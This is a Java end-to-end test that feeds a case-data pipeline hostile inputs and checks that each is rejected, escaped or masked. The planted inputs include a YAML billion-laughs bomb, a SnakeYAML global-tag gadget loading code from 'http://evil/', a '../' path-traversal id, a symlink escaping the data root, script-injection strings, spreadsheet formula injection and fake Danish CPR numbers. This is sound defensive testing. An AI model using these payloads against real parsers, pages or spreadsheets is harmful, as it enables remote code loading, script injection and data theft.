package dk.gevinst.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dk.gevinst.testing.Capture;
import dk.gevinst.testing.TempDirs;
import dk.gevinst.testing.TestSpark;
import dk.gevinst.testing.TinyRuns;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.zip.GZIPOutputStream;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.types.DataTypes;
import org.apache.spark.sql.types.StructField;
import org.apache.spark.sql.types.StructType;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 9's hostile-input battery: one night over a data root and a spec folder holding what real ones can
 * hold (YAML bombs, tags, duplicate keys, non-UTF-8 specs, ids with "../", injection in free text, CPR numbers
 * in headers, file names, JSON keys and unit names, a 1 MB line, binary and gzip named .csv, empty and
 * header-only files, UTF-16, NaN/Infinity/1e308/-0, years 0001 and 9999, a link out of the root, a folder named
 * x.csv, Parquet with the wrong schema), and per item the outcome the code gives. Assertions marked
 * "KNOWN WRONG" pin today's behaviour where it is a defect, so that fixing it makes this test say so.
 */
class HostileInputBatteryTest {
    @TempDir
    static Path tmp;
    private static Path out;
    private static int exit;
    private static String stdout, stderr;
    private static JsonNode manifest;

    @BeforeAll
    static void oneHostileNight() throws Exception {
        out = tmp.resolve("out");
        Path data = TinyRuns.data(tmp.resolve("data"));
        Path pilots = tmp.resolve("pilots");
        TempDirs.write(pilots, "small.yaml", TinyRuns.GOOD_SPEC);
        hostileSpecs(pilots);
        hostileData(data, tmp);
        String[] o = new String[1];
        stderr = Capture.stderr(() -> o[0] = Capture.stdout(() -> exit = TinyRuns.run(pilots, data, out, "2026-03-31")));
        stdout = o[0];
        manifest = SampleRun.json(single(out.resolve("runs")));
    }

    private static final String FRIT = TinyRuns.GOOD_SPEC.replace("id: small", "id: frit")
        .replace("title: \"Lille pilot\"", "title: \"=HYPERLINK(\\\"http://evil\\\",\\\"klik\\\") <script>alert(1)</script>\"\nowner: \"@SUM(1+1) <img src=x onerror=alert(2)>\"")
        .replace("arms: {pilot: [A], control: [B]}", "arms: {pilot: [\"Nord 010190-1234\"], control: [\"Syd 020290-5678\"]}");

    private static void hostileSpecs(Path pilots) throws Exception {
        StringBuilder bomb = new StringBuilder("id: bomb\ntitle: \"Bombe\"\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            String prev = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(String.join(",", java.util.Collections.nCopies(9, prev))).append("]\n");
        }
        TempDirs.write(pilots, "bomb.yaml", bomb.toString());
        TempDirs.write(pilots, "tag.yaml", TinyRuns.GOOD_SPEC.replace("id: small", "id: tag")
            .replace("title: \"Lille pilot\"", "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]\nowner: !custom x"));
        TempDirs.write(pilots, "dupkey.yaml", TinyRuns.GOOD_SPEC.replace("id: small", "id: dupkey").replace("title: \"Lille pilot\"", "title: \"Et\"\ntitle: \"To\""));
        TempDirs.write(pilots, "latin1.yaml", TinyRuns.GOOD_SPEC.replace("id: small", "id: latin1").replace("Lille pilot", "Sagsbehandling på tværs"),
            StandardCharsets.ISO_8859_1);
        TempDirs.write(pilots, "dotdot.yaml", TinyRuns.GOOD_SPEC.replace("id: small", "id: ../../escape"));
        TempDirs.write(pilots, "frit.yaml", FRIT);
    }

    private static void hostileData(Path data, Path tmp) throws Exception {
        StringBuilder units = new StringBuilder("case_id,unit,opened_at,decided_at,handling_minutes\n");
        int id = 0;
        for (String unit : List.of("Nord 010190-1234", "Syd 020290-5678")) {
            for (int d = 5; d <= 28; d++) {
                String day = "2026-" + (d < 16 ? "01" : "03") + "-" + String.format("%02d", d);
                units.append("u").append(++id).append(",\"").append(unit).append("\",").append(day).append(',').append(day).append("T15:00,")
                    .append(30 + (id * 7) % 11).append('\n');
            }
        }
        TempDirs.write(data, "cases/units.csv", units.toString());
        TempDirs.write(data, "cases/export-240190-2222.csv", "case_id,unit,opened_at,cpr_010190-1234_hdr\nX1,Z,2026-01-05,x\nX2,,2026-01-05,y\n");
        TempDirs.write(data, "cases/more.jsonl", "{\"case_id\":\"J1\",\"unit\":\"Z\",\"opened_at\":\"2026-01-06\",\"270190-7777\":\"z\"}\n");
        TempDirs.write(data, "cases/long.csv", "case_id,unit,opened_at,case_type\nL1,Z,2026-01-07," + "a".repeat(1 << 20) + "\nL2,Z,2026-01-07,kort\n");
        byte[] garbage = new byte[4096];
        new SplittableRandom(9).nextBytes(garbage);
        TempDirs.writeBytes(data, "cases/garbage.csv", garbage);
        ByteArrayOutputStream gz = new ByteArrayOutputStream();
        try (GZIPOutputStream z = new GZIPOutputStream(gz)) {
            z.write("case_id,unit,opened_at\nG1,Z,2026-01-05\n".getBytes(StandardCharsets.UTF_8));
        }
        TempDirs.writeBytes(data, "cases/zipped.csv", gz.toByteArray());
        TempDirs.write(data, "cases/empty.csv", "");
        TempDirs.write(data, "cases/header-only.csv", "case_id,unit,opened_at\n");
        TempDirs.write(data, "cases/utf16.csv", "case_id,unit,opened_at,case_type\nU1,Z,2026-01-05,Ærø\n", StandardCharsets.UTF_16);
        TempDirs.write(data, "cases/numbers.csv", "case_id,unit,opened_at,handling_minutes,caseworker_id,citizen_id,case_type\n"
            + "N1,Z,2026-01-05,NaN,kw-raw-01,030390-1111,=HYPERLINK(\"http://evil\")\nN2,Z,2026-01-05,Infinity,kw-raw-01,,<script>alert(3)</script>\n"
            + "N3,Z,2026-01-05,1e308,kw-raw-02,,+cmd\nN4,Z,2026-01-05,-0,kw-raw-02,,@x\nN5,Z,2026-01-05,-Infinity,kw-raw-02,,-2\n");
        TempDirs.write(data, "cases/years.csv", "case_id,unit,opened_at,decided_at\nY1,Z,0001-01-01,0001-01-02\nY2,Z,9999-12-30,9999-12-31\n");
        Path secret = TempDirs.write(tmp, "elsewhere/secret.csv", "case_id,unit,opened_at\nSECRET1,Z,2026-01-05\n");
        Files.createSymbolicLink(data.resolve("cases/outside.csv"), secret);
        Files.createDirectories(data.resolve("cases/dir.csv"));
        Path parquetDir = tmp.resolve("wrong-schema");
        StructType schema = new StructType(new StructField[] {DataTypes.createStructField("foo", DataTypes.IntegerType, true),
            DataTypes.createStructField("bar", DataTypes.StringType, true)});
        TestSpark.session().createDataFrame(List.of(RowFactory.create(1, "x"), RowFactory.create(2, "y")), schema).coalesce(1)
            .write().parquet(parquetDir.toString());
        try (var parts = Files.list(parquetDir)) {
            Path part = parts.filter(p -> p.getFileName().toString().endsWith(".parquet")).findFirst().orElseThrow();
            Files.copy(part, data.resolve("cases/wrong.parquet"));
        }
    }

    private static Path single(Path dir) throws Exception {
        try (var s = Files.list(dir)) {
            List<Path> files = s.filter(p -> p.toString().endsWith(".json")).toList();
            assertThat(files).hasSize(1);
            return files.get(0);
        }
    }

    private static JsonNode decision(String pilot) {
        return SampleRun.json(out.resolve("decisions/" + pilot + ".json"));
    }

    private static JsonNode file(String name) {
        JsonNode f = manifest.path("cases").path("files").path(name);
        assertThat(f.isObject()).as(name + " among " + manifest.path("cases").path("files")).isTrue();
        return f;
    }

    private static java.util.Map<String, String> problems(String kind) {
        java.util.Map<String, String> m = new java.util.TreeMap<>();
        for (JsonNode p : manifest.path(kind)) m.put(p.path("path").asText(), p.path("message").asText());
        return m;
    }

    @Test
    void theRunFinishesWithTheDataExitCodeAndNoStackTrace() {
        // Exit 3 (a file is unreadable) outranks 2 (a bad spec): both kinds of problem are present tonight.
        assertThat(exit).isEqualTo(3);
        assertThat(manifest.path("exit_code").asInt()).isEqualTo(3);
        assertThat(stderr.lines().reduce((a, b) -> b).orElse("")).startsWith("gevinst: exit 3 (a data source is unreadable)").contains("9 problems");
        for (String printed : List.of(stdout, stderr)) {
            assertThat(printed).doesNotContain("\tat ").doesNotContain("Exception").doesNotContainPattern("\\((\\w+)\\.(java|scala):[0-9]+\\)");
        }
    }

    @Test
    void eachHostileSpecIsAnErrorOfItsOwnAtFileLineColumn() throws Exception {
        var errors = java.util.Map.of(
            "bomb", "bomb.yaml:1:1: not valid YAML: Number of aliases for non-scalar nodes exceeds the specified max=20",
            "tag", "tag.yaml:2:8: not valid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager",
            "dupkey", "dupkey.yaml:3:1: duplicate key 'title' in the pilot spec",
            "dotdot", "dotdot.yaml:1:5: id '../../escape' may hold only a-z, 0-9 and '-'");
        errors.forEach((pilot, error) -> {
            JsonNode d = decision(pilot);
            assertThat(d.path("status").asText()).as(pilot).isEqualTo("error");
            assertThat(d.path("error").asText()).as(pilot).isEqualTo(error);
            assertThat(d.path("reasons").get(0).path("code").asText()).isEqualTo("invalid_spec");
            assertThat(stderr).contains("problem: " + error);
        });
        // The id with "../" names nothing on disk: its document is named after its file, and nothing escaped the output folder.
        try (var all = Files.walk(tmp)) {
            assertThat(all.map(p -> p.getFileName().toString())).noneMatch(n -> n.startsWith("escape"));
        }
        try (var docs = Files.list(out.resolve("decisions"))) {
            assertThat(docs.map(p -> p.getFileName().toString())).containsExactlyInAnyOrder("bomb.json", "tag.json", "dupkey.json", "dotdot.json",
                "latin1.json", "frit.json", "small.json");
        }
        // Issue 9: "non-UTF-8 bytes in a spec (an error, not replacement characters)".
        assertThat(decision("latin1").path("status").asText()).isEqualTo("error");
        assertThat(decision("latin1").path("error").asText()).startsWith("latin1.yaml:").contains("not UTF-8");
        // A spec that could not be used says so in each section, never "the spec has no business case" (issue 10).
        assertThat(Files.readString(out.resolve("dashboard/latin1.html")))
            .containsAnyOf("Ikke vurderet i nat (se fejlen øverst).", "Not evaluated tonight (see the error at the top).")
            .doesNotContain("ingen business case", "has no business case", "Ingen datakilder endnu", "No data sources yet");
    }

    @Test
    void theGoodPilotIsDecidedAsUsual() {
        JsonNode small = decision("small");
        assertThat(small.path("status").asText()).isEqualTo("ok");
        assertThat(small.path("decision").asText()).isEqualTo("EXTEND");
        assertThat(small.path("evaluated_tonight").asBoolean()).isTrue();
        assertThat(small.path("data_through").asText()).as("a case opened in 9999 does not move the newest data").isEqualTo(TinyRuns.NEWEST);
        assertThat(manifest.path("pilots").path("small").path("partial_data").asBoolean()).as("rejected files are said to be missing").isTrue();
        var rows = TestSpark.session().read().parquet(out.resolve("tables/decisions").toString()).filter("pilot_id = 'small'").collectAsList();
        assertThat(rows).singleElement().satisfies(r -> assertThat(r.<String>getAs("decision")).isEqualTo("EXTEND"));
    }

    @Test
    void everyHostileFileIsListedWithWhatWasDone() {
        String noColumns = "missing required columns 'case_id', 'unit', 'opened_at'; cases files need case_id, unit, opened_at (see docs/contract.md)";
        // Binary garbage and gzip are rejected as files without the required columns: true, though the message does not say
        // the file is binary or compressed (left as is; a wording matter for the lead).
        assertThat(problems("rejected_files")).containsExactly(
            java.util.Map.entry("cases/empty.csv", "is empty (0 bytes): not even a header line; an export holds at least its header"),
            java.util.Map.entry("cases/garbage.csv", noColumns),
            java.util.Map.entry("cases/wrong.parquet", noColumns),
            java.util.Map.entry("cases/zipped.csv", noColumns));
        assertThat(problems("skipped_files")).containsExactly(
            java.util.Map.entry("cases/dir.csv", "a folder, not a file; skipped"),
            java.util.Map.entry("cases/outside.csv", "a link to a file outside the data root; not followed"));
        assertThat(file("cases/header-only.csv").path("note").asText()).isEqualTo("header only: no rows");
        assertThat(file("cases/header-only.csv").path("rows_read").asLong()).isZero();
        assertThat(file("cases/long.csv").path("rows_accepted").asLong()).as("a 1 MB line is one row").isEqualTo(2);
        assertThat(file("cases/utf16.csv").path("rows_accepted").asLong()).isEqualTo(1);
        assertThat(file("cases/more.jsonl").path("rows_accepted").asLong()).isEqualTo(1);
        JsonNode numbers = file("cases/numbers.csv");
        assertThat(numbers.path("rows_accepted").asLong()).as("only -0 is a number").isEqualTo(1);
        // NaN, Infinity and -Infinity are bad values; 1e308 is a double, and implausible as minutes.
        assertThat(numbers.path("by_reason").toString()).isEqualTo("{\"bad_value:handling_minutes\":3,\"implausible:handling_minutes\":1}");
        // Years 0001 and 9999 are accepted as they are (a case opened in year 1 is not flagged implausible: a question for
        // the lead); the 9999 row is stored but, dated after as-of, is not among tonight's latest versions (103 of 104).
        assertThat(file("cases/years.csv").path("rows_accepted").asLong()).isEqualTo(2);
        assertThat(manifest.path("cases").path("latest_versions").path("rows_stored").asLong()).isEqualTo(103);
        JsonNode export = file("cases/export-######-####.csv");
        assertThat(export.path("by_reason").toString()).isEqualTo("{\"missing:unit\":1}");
        // The minus zero is kept as -0.0 and the 1 MB text whole: nothing is truncated or changed.
        var state = TestSpark.session().read().parquet(out.resolve("_state/cases").toString());
        assertThat(state.filter("case_id = 'N4'").first().<Double>getAs("handling_minutes")).isEqualTo(-0.0);
        assertThat(state.filter("case_id = 'L1'").selectExpr("length(case_type)").first().getInt(0)).isEqualTo(1 << 20);
        assertThat(state.filter("case_id like 'SECRET%' or case_id = 'G1'").count()).isZero();
    }

    @Test
    void rowsAreConservedPerSourceAndPerFile() {
        long files = 0;
        for (var source : (Iterable<java.util.Map.Entry<String, JsonNode>>) () -> manifest.fields()) {
            JsonNode s = source.getValue();
            if (!s.has("rows_read")) continue;
            assertThat(s.path("rows_read").asLong()).as(source.getKey())
                .isEqualTo(s.path("rows_accepted").asLong() + s.path("rows_quarantined").asLong());
            long read = 0;
            for (JsonNode f : s.path("files")) {
                assertThat(f.path("rows_read").asLong()).isEqualTo(f.path("rows_accepted").asLong() + f.path("rows_quarantined").asLong());
                read += f.path("rows_read").asLong();
                files++;
            }
            assertThat(read).as(source.getKey()).isEqualTo(s.path("rows_read").asLong());
        }
        assertThat(files).isEqualTo(9);
        assertThat(manifest.path("cases").path("rows_read").asLong()).isEqualTo(109);
        assertThat(manifest.path("cases").path("rows_quarantined").asLong()).isEqualTo(5);
        var state = TestSpark.session().read().parquet(out.resolve("_state/cases").toString());
        assertThat(state.filter("reason is null").count()).isEqualTo(manifest.path("cases").path("rows_accepted").asLong());
        assertThat(state.filter("reason is not null").count()).isEqualTo(5);
        assertThat(TestSpark.session().read().parquet(out.resolve("tables/quarantine").toString()).count()).isEqualTo(5);
    }

    @Test
    void freeTextIsEscapedInPagesAndNeutralisedInTheCsv() throws Exception {
        String page = Files.readString(out.resolve("dashboard/frit.html"));
        assertThat(page).contains("&lt;script&gt;alert(1)&lt;/script&gt;", "@SUM(1+1) &lt;img src=x onerror=alert(2)&gt;")
            .doesNotContain("<script>alert", "<img src=x");
        assertThat(Files.readString(out.resolve("dashboard/index.html"))).contains("&lt;script&gt;alert(1)").doesNotContain("<script>alert");
        assertThat(Files.readString(out.resolve("dashboard/digest.md"))).contains("\\<script\\>alert(1)");
        String row = Files.readString(out.resolve("dashboard/decisions.csv")).lines().filter(l -> l.contains(";frit;")).findFirst().orElseThrow();
        assertThat(row).startsWith("\"'=HYPERLINK(").contains(";'@SUM(1+1)");
    }

    @Test
    void noCprNumberOrRawIdInAnyOutputOrStateFile() throws Exception {
        assertThat(parquetTables()).extracting(t -> out.relativize(t).toString()).contains("_state/cases", "tables/quarantine", "tables/decisions");
        assertThat(manifest.path("cpr_masked").path("cases.column_names").asLong()).isEqualTo(2);
        assertThat(manifest.path("cpr_masked").path("cases.file_names").asLong()).isEqualTo(1);
        assertThat(manifest.path("cpr_masked").path("cases.unit").asLong()).isEqualTo(48);
        // A JSON record whose key was masked files its count under "column_names" only, never under an empty name.
        assertThat(manifest.path("cpr_masked").has("cases.")).isFalse();
        // Issue 9, item 2: spec unit names pass the CPR scrubber as the spec is read, so nothing planted is anywhere, and
        // the pilot finds its (equally masked) data.
        assertThat(hits()).isEmpty();
        assertThat(decision("frit").path("status").asText()).isEqualTo("ok");
    }

    @Test
    void noPlantedValueInTheLog() throws Exception {
        String log = Files.readString(dk.gevinst.testing.Repo.root().resolve("target/test-logs/gevinst-test.log"), StandardCharsets.ISO_8859_1);
        assertThat(log).as("the run logged").contains("2026-03-31");
        for (String v : PLANTED) assertThat(log).doesNotContain(v);
        for (String v : PLANTED_CPR) assertThat(joined(log)).doesNotContain(v);
    }

    /** Every output and state file and every Parquet string of the run, each with where it came from, searched for planted values. */
    static List<String> hits() throws Exception {
        List<String> found = new ArrayList<>();
        for (Path f : SampleRun.files(out)) {
            String name = out.relativize(f).toString();
            String text = name.endsWith(".parquet") ? "" : Files.readString(f, StandardCharsets.ISO_8859_1);
            for (String v : PLANTED) {
                if (name.contains(v) || text.contains(v)) found.add(name + ": " + v);
            }
            String digits = joined(name + "\n" + text);
            for (String c : PLANTED_CPR) if (digits.contains(c) && !found.contains(name + ": " + c)) found.add(name + ": digits " + c);
        }
        for (Path table : parquetTables()) {
            var df = TestSpark.session().read().parquet(table.toString());
            List<String> strings = new ArrayList<>();
            for (StructField f : df.schema().fields()) strings.add("to_json(named_struct('v', `" + f.name() + "`))");
            StringBuilder b = new StringBuilder(String.join(" ", df.columns())).append('\n');
            for (Row r : df.selectExpr(strings.toArray(String[]::new)).collectAsList()) {
                for (int i = 0; i < r.length(); i++) if (!r.isNullAt(i)) b.append(r.getString(i)).append('\n');
            }
            String digits = joined(b.toString());
            for (String v : PLANTED) if (b.indexOf(v) >= 0) found.add(out.relativize(table) + " (parquet): " + v);
            for (String c : PLANTED_CPR) if (digits.contains(c)) found.add(out.relativize(table) + " (parquet digits): " + c);
        }
        return found;
    }

    /** Digits that one dash or space separates are joined, so that 010190-1234 and 010190 1234 are found as 0101901234. */
    private static String joined(String text) {
        return text.replaceAll("(?<=[0-9])[- ](?=[0-9])", "");
    }

    /** Folders holding Parquet files, each named once by its table root (the folder above any key=value partition). */
    private static java.util.Set<Path> parquetTables() throws Exception {
        java.util.Set<Path> tables = new java.util.TreeSet<>();
        for (Path f : SampleRun.files(out)) {
            if (!f.getFileName().toString().endsWith(".parquet")) continue;
            Path dir = f.getParent();
            while (dir.getFileName().toString().contains("=")) dir = dir.getParent();
            tables.add(dir);
        }
        return tables;
    }

    private static final List<String> PLANTED_CPR = List.of("0101901234", "0202905678", "2401902222", "2701907777", "0303901111");
    private static final List<String> PLANTED = List.of("010190-1234", "020290-5678", "240190-2222", "270190-7777", "030390-1111", "kw-raw-01", "kw-raw-02",
        "SECRET1");
}
